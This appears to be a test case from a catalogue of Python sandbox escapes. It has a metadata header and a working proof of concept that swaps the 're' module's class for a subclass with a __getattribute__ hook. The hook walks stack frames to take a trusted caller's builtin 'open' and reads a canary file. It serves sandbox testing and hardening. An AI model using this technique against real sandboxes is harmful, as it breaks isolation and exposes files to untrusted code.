# id: module-class-swap
# family: protocol-hooks
# kind: escape
# invariant: D, E
# origin: found while probing CPython
# technique: a shared module's class may be set to a subclass, whose attribute hook then runs below its trusted users' frames
# needs: 3.5+
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import re
import textwrap


class Watched(type(re)):
    def __getattribute__(self, name):
        try:
            raise LookupError
        except LookupError as error:
            trusted = error.__traceback__.tb_frame.f_back
        if "open" in trusted.f_builtins:
            print(trusted.f_builtins["open"]("canary.txt").read())
        return super().__getattribute__(name)


re.__class__ = Watched
textwrap.dedent("    one\n    two")
